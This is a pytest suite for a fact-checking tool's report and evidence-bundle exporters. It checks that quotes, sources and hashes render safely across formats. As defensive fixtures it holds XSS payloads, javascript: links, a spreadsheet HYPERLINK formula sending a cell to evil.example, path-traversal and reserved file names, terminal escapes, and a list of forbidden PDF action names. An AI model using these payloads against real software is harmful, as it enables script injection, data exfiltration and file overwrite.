"""Reports carry the evidence: each quote with its source and capture time in every
format, quoted sources cited in ClaimReview, and the evidence bundle a reader can check."""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import io
import json
import os
import re
import stat
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.core.cli_runner import run
from tests.core.test_reports import HOSTILE_LINKS, TagCollector, parse
from workbench.models import ArticleDraft, DetectedClaim, Evidence, Quote, Status, VaultFile
from workbench.reports import (
    ClaimReviewError,
    ExportError,
    Report,
    ReportFormatError,
    build_report,
    claim_reviews,
    export_reports,
    read_report_json,
    render_reports,
)
from workbench.reports.bundle import (
    MAX_NAME_BYTES,
    check_entry_name,
    entry_name,
    safe_file_name,
)
from workbench.reports.claimreview import validate_claim_reviews
from workbench.reports.csv import neutralise_cell
from workbench.reports.html import render_html
from workbench.reports.markdown import escape_markdown
from workbench.store import Store
from workbench.textsafety import http_url
from workbench.vault import file_path, store_file

TEXT = (
    "North Korea sent some 12,000 troops to Russia, the minister said.\n\n"
    "Unemployment fell to 4.1% in October, the agency said."
)
SENTENCES = (
    "North Korea sent some 12,000 troops to Russia, the minister said.",
    "Unemployment fell to 4.1% in October, the agency said.",
)
CAPTURED = "2024-12-01T10:00:00+00:00"
CAPTURED_SHOWN = "1 December 2024, 10:00 UTC"
SOURCE_URL = "https://stats.example/troops.pdf?y=2024&m=10"

TITLE = 'Ministry <script>alert("t")</script> & "figures"'
QUOTE = (
    "=SUM(A1) some 12,000 <img src=x onerror=alert(1)> troops\n"
    "# not a heading\n> not a quote\n[link](javascript:alert(2)) `code` *em* </blockquote>"
)
NAME = 'Troops <b>report</b> & "annex"\u202egpj.pdf'
"""An original file name with markup, quotes and a right-to-left override."""
SHOWN_NAME = NAME.replace("\u202e", "")
"""How reports show it: the override, which would make it read "fdp.jpg", dropped."""


def detected(sentence: str) -> DetectedClaim:
    start = TEXT.index(sentence)
    return DetectedClaim(start, start + len(sentence), sentence, 0.8, ("number",))


@pytest.fixture
def store(tmp_path: Path) -> Any:
    with Store(tmp_path / "wb.db", user="tester") as s:
        yield s


def vaulted(store: Store, tmp_path: Path, name: str, data: bytes, url: str = "") -> VaultFile:
    """A file copied into the store's vault, recorded as the given original name."""
    source = tmp_path / f"source{Path(name).suffix or '.txt'}"
    source.write_bytes(data)
    kept = store_file(store.path, source)
    return VaultFile(kept.sha256, kept.size, kept.media_type, name, url, CAPTURED)


@pytest.fixture
def files(store: Store, tmp_path: Path) -> tuple[VaultFile, VaultFile]:
    pdf = vaulted(store, tmp_path, NAME, b"%PDF-1.4\n12,000 troops, page 4\n", SOURCE_URL)
    text = vaulted(store, tmp_path, "notes.txt", b"Unemployment: 4.1 %\n", "")
    return pdf, text


@pytest.fixture
def report(store: Store, files: tuple[VaultFile, VaultFile]) -> Report:
    """A verified claim quoting a PDF (page 4) from the web, and citing a plain link; a
    disputed claim quoting a vaulted text file with no address, and the same PDF again."""
    pdf, text = files
    draft = ArticleDraft(TEXT, title="Troops", source="Herald", url="https://news.example/a")
    aid = store.add_article(draft, [detected(s) for s in SENTENCES]).article.id
    store.set_setting("report.organisation", "Example Fact Check")
    base = build_report(store, aid, generated_at="2024-12-02T09:30:00+00:00")
    first, second = base.claims
    evidence_first = (
        Evidence(1, first.id, SOURCE_URL, TITLE, "note <n>", CAPTURED, pdf,
                 Quote(QUOTE, start=120, end=180, page=4, before="the ", after=" were")),
        Evidence(2, first.id, "https://un.example/r", "UN report", "", CAPTURED),
    )  # fmt: skip
    evidence_second = (
        Evidence(3, second.id, "", "", "", CAPTURED, text, Quote("Unemployment: 4.1 %", 0, 19)),
        Evidence(4, second.id, SOURCE_URL, "", "", CAPTURED, pdf, None),
    )
    claims = (
        replace(first, status=Status.VERIFIED, evidence=evidence_first),
        replace(second, status=Status.DISPUTED, evidence=evidence_second),
    )
    return replace(base, claims=claims)


def visible(html: str) -> str:
    return " ".join("".join(parse(html).text).split())


# -- HTML and the PDF's HTML -----------------------------------------------------------


@pytest.mark.parametrize("pdf", [False, True])
def test_html_shows_each_quote_with_its_page_source_and_capture_time(
    report: Report, files: tuple[VaultFile, VaultFile], pdf: bool
) -> None:
    html = render_html(report, pdf=pdf)
    text = visible(html)
    pdf_file, text_file = files
    assert f"“{' '.join(QUOTE.split())}”" in text  # the passage, in quotation marks
    assert "Page 4" in text
    for offsets in ("characters", "120–180", "120-180", "120 to 180"):
        assert offsets not in text  # character offsets are not for readers
    assert f"kept in the evidence vault, SHA-256 {pdf_file.sha256[:12]}…" in text
    assert f"File {SHOWN_NAME}, kept" in text
    assert f"File notes.txt, kept in the evidence vault, SHA-256 {text_file.sha256[:12]}…" in text
    assert f"Captured {CAPTURED_SHOWN}" in text
    assert f"Added {CAPTURED_SHOWN}" in text  # the plain link: when it was added
    assert SOURCE_URL in text and TITLE in text
    # The quote comes after its evidence's title and before the next piece of evidence.
    assert text.index(TITLE) < text.index("Page 4") < text.index("UN report")


@pytest.mark.parametrize("pdf", [False, True])
def test_html_escapes_hostile_quotes_titles_and_file_names(report: Report, pdf: bool) -> None:
    html = render_html(report, pdf=pdf)
    parsed = parse(html)
    assert not {"script", "img", "iframe", "object", "embed"} & set(parsed.tags)
    assert "onerror" not in parsed.attributes and "src" not in parsed.attributes
    shown = "".join(parsed.text)
    for line in QUOTE.split("\n"):
        assert line in shown  # shown as typed, every character of it
    assert TITLE in shown and SHOWN_NAME in shown
    assert "&lt;script&gt;alert(&#34;t&#34;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert html.count("<blockquote") == html.count("</blockquote>")  # none closed early


@pytest.mark.parametrize("pdf", [False, True])
def test_html_links_evidence_only_to_encoded_http_targets(report: Report, pdf: bool) -> None:
    first = report.claims[0]
    pdf_file = first.evidence[0].file
    hostile = tuple(
        Evidence(i, first.id, url, f"Source {i}", "", CAPTURED, pdf_file, Quote(f"quote {i}"))
        for i, url in enumerate(HOSTILE_LINKS, start=1)
    )
    changed = replace(report, claims=(replace(first, evidence=hostile), *report.claims[1:]))
    parsed = parse(render_html(changed, pdf=pdf))
    targets = {h for h in parsed.hrefs if not h.startswith("#claim-")}
    expected = {t for t in HOSTILE_LINKS.values() if t}
    assert targets == expected | {"https://news.example/a", http_url(SOURCE_URL)}
    shown = "".join(parsed.text)
    assert all(url in shown for url in HOSTILE_LINKS)  # the stored text, as it is


def test_the_pdf_variant_never_links_to_a_file(report: Report) -> None:
    with pytest.raises(ValueError, match="http"):
        render_html(report, pdf=True, vault_links={"a" * 64: "files/x"})


PDF_SCRIPT = """
import sys
from pathlib import Path
from workbench.reports import load_pdf_renderer, read_report_json, render_reports
(report,) = read_report_json(Path(sys.argv[1]).read_bytes())
Path(sys.argv[2]).write_bytes(render_reports([report], "pdf", pdf_renderer=load_pdf_renderer()))
"""
FORBIDDEN_PDF_NAMES = {
    "/JavaScript", "/JS", "/Launch", "/SubmitForm", "/GoToR", "/GoToE", "/ImportData",
    "/ResetForm", "/Rendition", "/RichMediaExecute", "/OpenAction", "/AA", "/EmbeddedFile",
}  # fmt: skip


@pytest.mark.skipif(
    importlib.util.find_spec("PySide6") is None, reason="the PDF renderer is the desktop app's"
)
def test_pdf_shows_quotes_and_has_only_http_link_actions(report: Report, tmp_path: Path) -> None:
    """Rendered by the real renderer, in a process of its own (tests/core stay Qt-free)."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject

    first = report.claims[0]
    hostile = tuple(
        Evidence(10 + i, first.id, url, TITLE, "", CAPTURED, first.evidence[0].file, Quote(QUOTE))
        for i, url in enumerate(HOSTILE_LINKS)
    )
    changed = replace(report, claims=(replace(first, evidence=hostile), *report.claims[1:]))
    source, out = tmp_path / "report.json", tmp_path / "report.pdf"
    source.write_bytes(render_reports([changed], "json"))
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen"}
    done = subprocess.run(
        [sys.executable, "-c", PDF_SCRIPT, str(source), str(out)],
        capture_output=True, text=True, timeout=120, env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    reader = PdfReader(io.BytesIO(out.read_bytes()))
    text = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert "12,000<imgsrc=xonerror=alert(1)>troops" in text
    assert "keptintheevidencevault" in text

    targets: set[str] = set()
    for page in reader.pages:
        for ref in page.get("/Annots", []):
            action = ref.get_object()["/A"].get_object()
            assert action["/S"] == "/URI" and set(action) <= {"/Type", "/S", "/URI"}, action
            targets.add(str(action["/URI"]))
    expected = {t for t in HOSTILE_LINKS.values() if t}
    assert targets == expected | {"https://news.example/a", http_url(SOURCE_URL)}

    seen: set[tuple[int, int]] = set()

    def names(obj: Any) -> set[str]:
        if isinstance(obj, IndirectObject):
            if (obj.idnum, obj.generation) in seen:
                return set()
            seen.add((obj.idnum, obj.generation))
            return names(obj.get_object())
        if isinstance(obj, DictionaryObject):
            return {str(k) for k in obj} | {n for v in obj.values() for n in names(v)}
        if isinstance(obj, ArrayObject):
            return {n for v in obj for n in names(v)}
        return {str(obj)} if isinstance(obj, NameObject) else set()

    found = names(reader.trailer)
    for generation, numbers in reader.xref.items():
        for number in numbers:
            found |= names(IndirectObject(number, generation, reader))
    assert not found & FORBIDDEN_PDF_NAMES


# -- Markdown --------------------------------------------------------------------------


def test_markdown_shows_quotes_and_escapes_them(
    report: Report, files: tuple[VaultFile, VaultFile]
) -> None:
    md = render_reports([report], "md").decode("utf-8")
    assert not re.search(r"(?<!\\)<(script|img|b>|/blockquote)", md)  # every < escaped
    assert r"\<img src=x onerror=alert(1)\>" in md
    assert r"\# not a heading" in md and r"\> not a quote" in md
    assert r"\[link\](javascript:alert(2)) \`code\` \*em\*" in md
    assert f"SHA-256 {files[0].sha256[:12]}…" in md
    assert "Page 4 · File Troops \\<b\\>report\\</b\\> \\& " in md
    assert f"captured {CAPTURED_SHOWN}" in md
    targets = re.findall(r"\]\(<([^>]*)>\)", md)
    assert set(targets) == {http_url(SOURCE_URL), "https://un.example/r", "https://news.example/a"}


def test_markdown_renders_each_quote_as_a_block_quote_in_its_list_item(report: Report) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    md = render_reports([report], "md").decode("utf-8")
    html = markdown_it.MarkdownIt("commonmark").render(md)
    parsed: TagCollector = parse(html)
    assert not {"script", "img", "code"} & set(parsed.tags)
    assert all(h.startswith("https://") for h in parsed.hrefs)
    assert html.count("<h1>") == 1  # the title; "# not a heading" stayed text
    # Each quote is a block quote inside its list item, after the details line.
    lists = re.findall(r"<ol>(.*?)</ol>", html, flags=re.S)  # the evidence of each claim
    items = [i for ol in lists for i in re.findall(r"<li>(.*?)</li>", ol, flags=re.S)]
    assert len(items) == 4
    assert "<blockquote>" in items[0] and "Page 4" in items[0].split("<blockquote>")[0]
    assert "<blockquote>" not in items[1]  # the plain link has no quote
    shown = "".join(parsed.text)
    for line in QUOTE.split("\n"):
        assert line in shown  # `code` and *em* too: shown as typed


# -- CSV and JSON ----------------------------------------------------------------------


def test_csv_appends_files_and_quotes_one_line_per_piece_of_evidence(
    report: Report, files: tuple[VaultFile, VaultFile]
) -> None:
    data = render_reports([report], "csv").decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(data, newline="")))
    assert header[:16] == [
        "article_id", "article_title", "article_url", "claim_id", "claim_number", "claim_text",
        "start", "end", "score", "status", "note", "claimant", "evidence_urls", "updated_at",
        "type", "priority",
    ]  # fmt: skip
    assert header[16:] == ["evidence_files", "evidence_sha256", "evidence_quotes"]
    first, second = csv.DictReader(io.StringIO(data, newline=""))
    pdf, _ = files
    assert first["evidence_urls"].split("\n") == [SOURCE_URL, "https://un.example/r"]
    assert first["evidence_files"].split("\n") == [SHOWN_NAME, ""]
    assert first["evidence_sha256"].split("\n") == [pdf.sha256, ""]
    assert first["evidence_quotes"].startswith("'=SUM(A1)")  # a formula, neutralised
    assert first["evidence_quotes"].split("\n") == ["'" + " ".join(QUOTE.split()), ""]
    assert second["evidence_files"].split("\n") == ["notes.txt", SHOWN_NAME]
    assert second["evidence_quotes"].split("\n") == ["Unemployment: 4.1 %", ""]


def test_json_records_files_and_quotes_and_round_trips(report: Report) -> None:
    data = render_reports([report], "json")
    document = json.loads(data)
    assert document["schema_version"] == 5
    item = document["reports"][0]["claims"][0]["evidence"][0]
    assert item["file"]["original_name"] == NAME and item["file"]["source_url"] == SOURCE_URL
    assert item["quote"] == {
        "text": QUOTE, "start": 120, "end": 180, "page": 4, "before": "the ", "after": " were",
    }  # fmt: skip
    assert document["reports"][0]["claims"][0]["evidence"][1]["file"] is None
    assert read_report_json(data) == [report]


def test_version_2_reports_are_still_read_and_keep_their_shape(report: Report) -> None:
    document = json.loads(render_reports([report], "json"))
    document["schema_version"] = 2
    del document["reports"][0]["article"]["tags"]  # version 5 added them
    for claim in document["reports"][0]["claims"]:
        del claim["chosen_priority"], claim["tags"]  # versions 4 and 5 added them
        for item in claim["evidence"]:
            del item["file"], item["quote"]
    (back,) = read_report_json(json.dumps(document))
    assert all(e.file is None and e.quote is None for c in back.claims for e in c.evidence)
    document["reports"][0]["claims"][0]["evidence"][0]["file"] = None  # not a v2 field
    with pytest.raises(ReportFormatError, match="reports/0/claims/0/evidence/0"):
        read_report_json(json.dumps(document))


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda e: e.pop("quote"), "'quote' is a required"),
        (lambda e: e["file"].update(sha256="../../etc/passwd"), "evidence/0/file"),
        (lambda e: e["quote"].update(page=0), "evidence/0/quote"),
        (lambda e: e["quote"].update(start=200), "ends before it starts"),
        (lambda e: e["file"].update(extra=1), "evidence/0/file"),
    ],
)
def test_json_reader_checks_files_and_quotes(report: Report, change: Any, message: str) -> None:
    document = json.loads(render_reports([report], "json"))
    change(document["reports"][0]["claims"][0]["evidence"][0])
    with pytest.raises(ReportFormatError, match=message):
        read_report_json(json.dumps(document))


# -- ClaimReview -----------------------------------------------------------------------


def test_claimreview_cites_quoted_http_evidence_only(report: Report) -> None:
    first, second = report.claims
    extra = (
        Evidence(20, first.id, "javascript:alert(1)//https://x.example/", "JS", "", CAPTURED,
                 None, Quote("quoted, but not a web address")),
        Evidence(21, first.id, SOURCE_URL, "Same address again", "", CAPTURED, None, Quote("x")),
        Evidence(22, first.id, "https://blank.example/", "", "", CAPTURED, None, Quote("  ")),
    )  # fmt: skip
    changed = replace(report, claims=(replace(first, evidence=first.evidence + extra), second))
    verified, disputed = claim_reviews(changed)
    # The quoted PDF's address, once, with its title; not the unquoted UN link, not
    # javascript:, not a blank quote.
    assert verified["citation"] == [
        {"@type": "CreativeWork", "url": http_url(SOURCE_URL), "name": " ".join(TITLE.split())}
    ]
    # The second claim's quote is from a file with no address: nothing to cite.
    assert "citation" not in disputed
    validate_claim_reviews([verified, disputed])
    unchanged = replace(report, claims=tuple(
        replace(c, evidence=tuple(replace(e, quote=None) for e in c.evidence))
        for c in report.claims
    ))  # fmt: skip
    assert all("citation" not in r for r in claim_reviews(unchanged))


@pytest.mark.parametrize("fmt", ["claimreview", "json"])
def test_json_exports_cannot_close_the_script_element_they_are_pasted_into(
    report: Report, fmt: str
) -> None:
    """ClaimReview goes into a publisher's ``<script type="application/ld+json">``."""
    hostile = "</script><script>alert(2)</script><!-- \u2028\x9b2J\u202e & more"
    first = replace(report.claims[0], note=hostile, text=f"{report.claims[0].text} {hostile}")
    changed = replace(report, claims=(first, *report.claims[1:]))
    output = render_reports([changed], fmt).decode("utf-8")
    assert not re.search("[<>&\u2028\x9b\u202e]", output)
    kept = json.dumps(json.loads(output), ensure_ascii=False)  # the same data, escaped
    assert "</script><script>alert(2)</script><!--" in kept


def test_markdown_and_csv_keep_template_syntax_and_terminal_controls_inert() -> None:
    text = "{{ 7*7 }} {% include x %} \x1b]0;title\x07 \x9b2J \u202eevil"
    markdown = escape_markdown(text)
    assert "{{" not in markdown and "{%" not in markdown and "\\{\\{ 7" in markdown
    assert not re.search("[\x1b\x07\x9b\u202e]", markdown)
    assert neutralise_cell("\x07=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert neutralise_cell("\r\x1b=1") == "'\r=1"
    assert not re.search("[\x1b\x07\x9b\u202e]", neutralise_cell(text))


def test_the_schema_refuses_a_citation_that_is_not_http(report: Report) -> None:
    reviews = claim_reviews(report)
    reviews[0]["citation"][0]["url"] = "javascript:alert(1)"
    with pytest.raises(ClaimReviewError, match="citation"):
        validate_claim_reviews(reviews)


# -- the evidence bundle ---------------------------------------------------------------


def bundle_of(report: Report, store: Store) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(render_reports([report], "bundle", db_path=store.path)))


def test_bundle_manifest_verifies_against_the_zip(
    report: Report, store: Store, files: tuple[VaultFile, VaultFile]
) -> None:
    archive = bundle_of(report, store)
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["bundle_version"] == 1
    html = archive.read("report.html")
    assert manifest["report"]["sha256"] == hashlib.sha256(html).hexdigest()
    assert manifest["report"]["size"] == len(html)
    listed = {f["path"] for f in manifest["files"]}
    assert set(archive.namelist()) == {"manifest.json", "report.html"} | listed
    assert len(manifest["files"]) == 2  # the PDF cited twice is kept once
    for entry in manifest["files"]:
        data = archive.read(entry["path"])
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]  # recomputed from the zip
        assert len(data) == entry["size"]
        assert entry["path"].startswith(f"files/{entry['sha256']}")
    pdf, text = files
    by_hash = {f["sha256"]: f for f in manifest["files"]}
    assert by_hash[pdf.sha256]["original_name"] == NAME
    assert by_hash[pdf.sha256]["source_url"] == SOURCE_URL
    assert by_hash[pdf.sha256]["captured_at"] == CAPTURED
    assert by_hash[pdf.sha256]["media_type"] == "application/pdf"
    cites = by_hash[pdf.sha256]["cited_by"]
    assert [(c["claim"], c["evidence"]) for c in cites] == [(1, 1), (2, 2)]
    assert cites[0]["quote"]["text"] == QUOTE and cites[0]["quote"]["page"] == 4
    assert cites[1]["quote"] is None
    assert by_hash[text.sha256]["cited_by"][0]["quote"]["text"] == "Unemployment: 4.1 %"


def test_bundle_report_links_each_file_to_its_copy(report: Report, store: Store) -> None:
    archive = bundle_of(report, store)
    parsed = parse(archive.read("report.html").decode("utf-8"))
    relative = {h for h in parsed.hrefs if not h.startswith(("https://", "#claim-"))}
    manifest = json.loads(archive.read("manifest.json"))
    names = set(archive.namelist())
    assert len(relative) == 2
    for href in relative:
        assert re.fullmatch(r"files/[0-9a-f]{64}/[A-Za-z0-9._~%/-]+", href), href
        assert unquote(href) in names
    assert "manifest.json" in "".join(parsed.text)  # the page says what it is part of
    assert {f["path"] for f in manifest["files"]} <= names


def test_a_saved_web_page_is_bundled_as_text_with_its_bytes_unchanged(
    report: Report, store: Store, tmp_path: Path
) -> None:
    """Opened from the report or the unpacked folder, it must not run its scripts."""
    page = b'<html><script>alert(document.cookie)</script><img src="http://t.example/p.gif">'
    saved = vaulted(store, tmp_path, "page.html", page, "https://news.example/a")
    assert saved.media_type == "text/html"
    first = report.claims[0]
    cited = Evidence(31, first.id, "", "", "", CAPTURED, saved, Quote("alert"))
    changed = replace(report, claims=(replace(first, evidence=(cited,)), *report.claims[1:]))
    archive = bundle_of(changed, store)
    entry = f"files/{saved.sha256}/page.html.txt"
    assert entry in archive.namelist()
    assert not [n for n in archive.namelist() if n.endswith((".html", ".htm", ".mhtml"))
                and n != "report.html"]  # fmt: skip
    assert archive.read(entry) == page
    hrefs = parse(archive.read("report.html").decode("utf-8")).hrefs
    assert entry in {unquote(h) for h in hrefs}
    listed = json.loads(archive.read("manifest.json"))["files"]
    assert any(f["path"] == entry and f["media_type"] == "text/html" for f in listed)
    mhtml = replace(saved, media_type="multipart/related", original_name="page.mhtml")
    assert entry_name(mhtml).endswith("/page.mhtml.txt")


def test_a_csv_file_is_bundled_as_text_so_no_formula_runs(
    report: Report, store: Store, tmp_path: Path
) -> None:
    """A downloaded data set may carry formulas a spreadsheet runs when it opens it."""
    table = b'year,rate\n2023,=HYPERLINK("https://evil.example/?"&A1,"4.1")\n'
    saved = vaulted(store, tmp_path, "rates.csv", table, "https://stats.example/rates.csv")
    assert saved.media_type == "text/csv"
    first = report.claims[0]
    cited = Evidence(32, first.id, "", "", "", CAPTURED, saved, Quote("2023"))
    changed = replace(report, claims=(replace(first, evidence=(cited,)), *report.claims[1:]))
    archive = bundle_of(changed, store)
    entry = f"files/{saved.sha256}/rates.csv.txt"
    assert entry in archive.namelist()
    assert not [n for n in archive.namelist() if n.endswith(".csv")]
    assert archive.read(entry) == table
    assert "CSV files end in .txt" in json.loads(archive.read("manifest.json"))["about"]


def test_bundle_entry_names_are_safe_whatever_the_original_name(
    report: Report, store: Store, tmp_path: Path
) -> None:
    hostile_names = [
        "../../../etc/passwd.txt", "/abs/olute.txt", "C:\\Windows\\evil.txt", "..",
        "a\x00b\x1b[31m\u202e\u200b.txt", "CON.txt", "nul", " .hidden.txt", "-rf.txt",
        "é" * 300 + ".txt", "", "report.exe",
    ]  # fmt: skip
    first = report.claims[0]
    text = vaulted(store, tmp_path, "x.txt", b"plain text\n")
    cited = Evidence(30, first.id, "", "", "", CAPTURED, text, Quote("plain"))
    for name in hostile_names:
        file = replace(text, original_name=name)
        entry = entry_name(file)
        check_entry_name(entry)
        parts = entry.split("/")
        assert parts[0] == "files" and parts[1].startswith(text.sha256)
        assert len(parts[-1].encode()) <= MAX_NAME_BYTES + 64
        assert entry.endswith(".txt")  # the media type's extension, whatever the name says
        assert not parts[-1].startswith((".", "-", " "))
        assert parts[-1].split(".")[0].upper() not in ("CON", "NUL")
        one = replace(cited, file=file)
        bundle = bundle_of(replace(report, claims=(replace(first, evidence=(one,)),)), store)
        for member in bundle.infolist():
            assert not member.filename.startswith("/") and ".." not in member.filename.split("/")
            assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in member.filename)
            assert "\\" not in member.filename and ":" not in member.filename
            assert stat.S_IMODE(member.external_attr >> 16) == 0o644
        assert bundle.read(entry) == b"plain text\n"


@pytest.mark.parametrize(
    "name", ["", "/x", "files/../x", "files//x", "files/./x", "a\\b", "c:x", "a\nb", "a\u202eb"]
)
def test_unsafe_entry_names_are_refused(name: str) -> None:
    with pytest.raises(ExportError, match="unsafe entry name"):
        check_entry_name(name)


@pytest.mark.parametrize(
    ("original", "expected"),
    [
        ("Annual report 2024.PDF", "Annual report 2024.pdf"),
        ("statistics", "statistics.pdf"),
        ("../../x.pdf", "x.pdf"),
        ("a:b*c?.pdf", "a_b_c_.pdf"),
        ("LPT1.pdf", "_LPT1.pdf"),
        ("...", ""),
    ],
)
def test_safe_file_names(original: str, expected: str) -> None:
    assert safe_file_name(original, "application/pdf") == expected


@settings(max_examples=300)
@given(st.text(st.characters(codec="utf-8")), st.sampled_from(["application/pdf", "text/plain"]))
def test_any_original_name_gives_a_safe_entry(original: str, media_type: str) -> None:
    file = VaultFile("ab" * 32, 1, media_type, original, "", CAPTURED)
    entry = entry_name(file)
    check_entry_name(entry)  # raises for anything unsafe
    assert entry.startswith(f"files/{'ab' * 32}")
    assert entry.endswith(".pdf" if media_type == "application/pdf" else ".txt")
    assert len(entry.rsplit("/", 1)[-1].encode()) <= MAX_NAME_BYTES + 70


hostile_text = st.text(st.characters(codec="utf-8", blacklist_characters="\x00"), max_size=60)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(quote=hostile_text, title=hostile_text, name=hostile_text)
def test_any_quote_title_or_name_stays_text(
    report: Report, quote: str, title: str, name: str
) -> None:
    first = report.claims[0]
    item = first.evidence[0]
    file = item.file
    assert file is not None

    def with_texts(q: str, t: str, n: str) -> Report:
        changed = replace(
            item, title=t, quote=Quote(q, page=4), file=replace(file, original_name=n)
        )
        return replace(report, claims=(replace(first, evidence=(changed,)), *report.claims[1:]))

    hostile = with_texts(quote, title, name)
    # The same shape of text with nothing special in it: the page must have the same tags.
    plain = with_texts(
        *("\n".join("x" for _ in v.split("\n")) if v.strip() else v for v in (quote, title, name))
    )
    for pdf in (False, True):
        tags = parse(render_html(hostile, pdf=pdf)).tags
        assert tags == parse(render_html(plain, pdf=pdf)).tags
    md = render_reports([hostile], "md").decode("utf-8")
    targets = set(re.findall(r"\]\(<([^>]*)>\)", md))  # the quote, title and name made none
    assert targets == {http_url(SOURCE_URL), "https://news.example/a"}
    validate_claim_reviews(claim_reviews(hostile))
    assert read_report_json(render_reports([hostile], "json")) == [hostile]


def alter(path: Path, data: bytes | None) -> None:
    """Change (or, with None, delete) a vault file, as a disk error or a person might."""
    os.chmod(path, 0o644)
    if data is None:
        path.unlink()
    else:
        path.write_bytes(data)


@pytest.mark.parametrize(
    ("damage", "problem"),
    [
        (lambda p: alter(p, p.read_bytes().replace(b"12,000", b"10,000")), "altered"),
        (lambda p: alter(p, p.read_bytes() + b"x"), "altered"),
        (lambda p: alter(p, None), "missing"),
    ],
)
def test_an_altered_or_missing_vault_file_refuses_the_bundle(
    store: Store,
    files: tuple[VaultFile, VaultFile],
    tmp_path: Path,
    damage: Any,
    problem: str,
) -> None:
    if not hasattr(store, "add_file_evidence"):
        pytest.skip("the store cannot record file evidence yet")
    pdf, _ = files
    aid = store.add_article(ArticleDraft(TEXT, title="T"), [detected(SENTENCES[0])]).article.id
    claim = store.claims(aid)[0]
    stored = store_file(store.path, tmp_path / "source.pdf")  # the PDF again: same hash
    store.add_file_evidence(
        claim.id, stored, original_name="troops.pdf", source_url=SOURCE_URL, quote=Quote("12,000")
    )
    destination = tmp_path / "bundle.zip"
    destination.write_bytes(b"the previous bundle")
    damage(file_path(store.path, pdf.sha256))
    with pytest.raises(ExportError) as caught:
        export_reports(store, [aid], destination, fmt="bundle")
    message = str(caught.value)
    assert "\n" not in message and problem in message
    assert message.startswith("evidence bundle not written: troops.pdf (cited by claim 1)")
    assert destination.read_bytes() == b"the previous bundle"
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]

    code, _ = run(
        "export", str(aid), "-f", "bundle", "-o", str(destination), "--db", str(store.path)
    )
    assert code == 2 and destination.read_bytes() == b"the previous bundle"


def test_a_file_altered_while_it_is_copied_is_caught(
    report: Report,
    store: Store,
    files: tuple[VaultFile, VaultFile],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Checked before, changed after: the hash computed while copying catches it."""
    import workbench.reports.bundle as bundle

    pdf, _ = files
    monkeypatch.setattr(bundle, "verify_files", lambda db_path, found: None)
    alter(file_path(store.path, pdf.sha256), b"%PDF-1.4\nsomething else entirely\n")
    with pytest.raises(ExportError, match="changed while the bundle was written"):
        render_reports([report], "bundle", db_path=store.path)


def test_bundle_export_from_the_store_and_the_command_line(store: Store, tmp_path: Path) -> None:
    if not hasattr(store, "add_file_evidence"):
        pytest.skip("the store cannot record file evidence yet")
    aid = store.add_article(ArticleDraft(TEXT, title="T"), [detected(SENTENCES[0])]).article.id
    claim = store.claims(aid)[0]
    source = tmp_path / "Troops 2024.pdf"
    source.write_bytes(b"%PDF-1.4\n12,000 troops\n")
    stored = store_file(store.path, source)
    store.add_file_evidence(
        claim.id, stored, original_name=source.name, source_url=SOURCE_URL,
        quote=Quote("12,000 troops", 9, 22, 1),
    )  # fmt: skip
    result = export_reports(store, [aid], tmp_path / "out.zip", fmt="bundle")
    assert result.files == 1 and result.size == (tmp_path / "out.zip").stat().st_size
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        entry = f"files/{stored.sha256}/Troops 2024.pdf"
        assert archive.read(entry) == source.read_bytes()
        assert "12,000 troops" in archive.read("report.html").decode("utf-8")

    out = tmp_path / "cli.zip"
    code, printed = run("export", str(aid), "-o", str(out), "--db", str(store.path))
    assert code == 0 and printed.startswith(f"wrote {out} (bundle: 1 claims, 1 vaulted file")
    code, printed = run("export", str(aid), "-f", "bundle", "-o", "-", "--db", str(store.path))
    assert code == 2


def test_a_bundle_without_vaulted_files_holds_the_report_and_manifest(
    store: Store, tmp_path: Path
) -> None:
    aid = store.add_article(ArticleDraft(TEXT, title="T"), [detected(SENTENCES[0])]).article.id
    result = export_reports(store, [aid], tmp_path / "empty.zip", fmt="bundle")
    assert result.files == 0
    with zipfile.ZipFile(tmp_path / "empty.zip") as archive:
        assert archive.namelist() == ["manifest.json", "report.html"]
        assert json.loads(archive.read("manifest.json"))["files"] == []


def test_a_bundle_needs_the_vault(report: Report) -> None:
    with pytest.raises(ExportError, match="vault"):
        render_reports([report], "bundle")
